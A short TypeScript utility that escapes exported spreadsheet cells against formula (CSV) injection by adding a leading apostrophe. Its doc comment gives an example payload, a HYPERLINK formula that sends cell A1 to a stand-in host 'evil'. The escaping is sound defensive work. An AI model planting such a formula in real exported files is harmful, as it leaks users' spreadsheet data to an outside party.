/**
 * Text written into an exported spreadsheet, made safe to open (OWASP "CSV injection"): a cell whose text begins with
 * `=`, `+`, `-`, `@`, a tab or a carriage return could be taken for a formula by Excel, LibreOffice or another tool
 * the file is pasted or converted into (`=HYPERLINK("http://evil/?"&A1, "点击")`), so it is written with a leading
 * apostrophe and shows as the text that was typed. Used by every .xlsx export; numbers, dates and booleans are
 * real cell values and pass through unchanged.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

/** The text as a spreadsheet cell shows it literally: a leading apostrophe when it could start a formula. */
export function safeCellText(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** Any cell value: strings through safeCellText, everything else (numbers, dates, null) as it is. */
export function safeCellValue<T>(value: T): T | string {
  return typeof value === 'string' ? safeCellText(value) : value;
}
